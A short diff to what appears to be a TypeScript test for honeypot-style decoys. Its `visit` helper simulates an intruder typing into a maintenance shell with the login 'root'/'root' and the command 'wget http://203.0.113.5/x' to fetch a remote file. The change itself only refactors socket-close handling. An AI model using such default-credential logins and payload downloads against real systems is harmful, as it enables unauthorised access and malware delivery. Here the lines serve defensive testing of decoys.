@@ -15,8 +15,8 @@ async function picture(name: string): Promise<void> {
 
 /** Somebody types into the maintenance shell, key by key. */
 async function visit(port: number): Promise<void> {
-  const socket = connect(port, '127.0.0.1');
-  socket.resume();
+  const socket = connect(port, '127.0.0.1').resume();
+  const closed = new Promise((done) => socket.on('close', done));
   for (const line of ['root', 'root', 'wget http://203.0.113.5/x', 'exit']) {
     for (const key of `${line}\r`) {
       socket.write(key);
@@ -24,7 +24,7 @@ async function visit(port: number): Promise<void> {
     }
     await pause(200);
   }
-  await new Promise((done) => socket.on('close', done));
+  await closed;
 }
 
 describe('decoys, in a real browser', () => {
